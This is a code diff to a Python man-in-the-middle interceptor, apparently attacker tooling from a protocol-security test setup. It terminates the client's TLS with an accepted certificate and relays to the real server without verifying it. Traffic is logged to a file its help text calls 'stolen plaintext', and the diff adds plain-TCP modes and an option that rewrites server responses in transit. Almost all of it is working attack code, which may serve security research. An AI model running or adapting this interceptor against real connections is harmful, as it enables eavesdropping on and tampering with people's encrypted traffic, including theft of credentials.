@@ -1,7 +1,8 @@
 """A man in the middle on path 1 who holds a certificate that the client accepts.
 
 It terminates TLS with that certificate, opens its own TLS connection to the real server, and copies
-the plaintext both ways and into a file. Of extensions it knows nothing: ours is stripped.
+the plaintext both ways and into a file. Of extensions it knows nothing: ours is stripped. Either side
+can be plain TCP instead, where another program of the attacker's speaks to the victim.
 """
 
 import argparse
@@ -15,42 +16,67 @@ class Interceptor:
     def __init__(self, options):
         self.options = options
         self.record = open(options.record, "ab", buffering=0)
-        self.onward = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
-        self.onward.check_hostname = False
-        self.onward.verify_mode = ssl.CERT_NONE
+        self.inward = None
+        if not options.plain_in:
+            self.inward = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+            self.inward.load_cert_chain(options.cert, options.key)
+        self.onward = None
+        if not options.plain_out:
+            self.onward = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+            self.onward.check_hostname = False
+            self.onward.verify_mode = ssl.CERT_NONE
 
     def note(self, data):
+        """What passes; in the server's answers --alter replaces one text by another of its length."""
         self.record.write(data)
+        return data
+
+    def change(self, data):
+        self.note(data)
+        for words in self.options.alter:
+            old, new = words.encode().split(b"=", 1)
+            if old in data:
+                data = data.replace(old, new)
+                common.say(event="altered", bytes=len(new))
         return data
 
     async def handle(self, reader, writer):
         host, port = common.destination(writer, self.options.to)
+        common.say(event="connection", to=f"{host}:{port}")
+        try:
+            if self.inward:
+                await writer.start_tls(self.inward)
+        except (ssl.SSLError, OSError) as error:
+            common.say(event="refused", by="client", error=str(error))
+            writer.close()
+            return
         try:
             up_reader, up_writer = await asyncio.open_connection(
-                host, port, ssl=self.onward, server_hostname=self.options.name)
+                host, port, ssl=self.onward, server_hostname=self.options.name if self.onward else None)
         except (ssl.SSLError, OSError) as error:
             common.say(event="refused", by="server", error=str(error))
             writer.close()
             return
         common.say(event="intercepted", to=f"{host}:{port}")
         await asyncio.gather(common.pump(reader, up_writer, self.note),
-                             common.pump(up_reader, writer, self.note))
+                             common.pump(up_reader, writer, self.change))
         for one in (writer, up_writer):
             one.close()
 
 
 def main():
     parser = argparse.ArgumentParser(description=__doc__)
-    parser.add_argument("--cert", required=True)
-    parser.add_argument("--key", required=True)
-    parser.add_argument("--name", required=True, help="the name to ask the real server for")
+    parser.add_argument("--cert")
+    parser.add_argument("--key")
+    parser.add_argument("--name", help="the name to ask the real server for")
     parser.add_argument("--record", required=True, help="where the stolen plaintext goes")
     parser.add_argument("--to", help="HOST:PORT instead of the connection's own destination")
     parser.add_argument("--family", type=int, default=4)
+    parser.add_argument("--plain-in", action="store_true", help="no TLS towards the client")
+    parser.add_argument("--plain-out", action="store_true", help="no TLS towards the server")
+    parser.add_argument("--alter", action="append", default=[], metavar="OLD=NEW")
     options = parser.parse_args()
-    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
-    tls.load_cert_chain(options.cert, options.key)
-    common.run(common.serve(Interceptor(options).handle, options.family, tls))
+    common.run(common.serve(Interceptor(options).handle, options.family))
 
 
 if __name__ == "__main__":
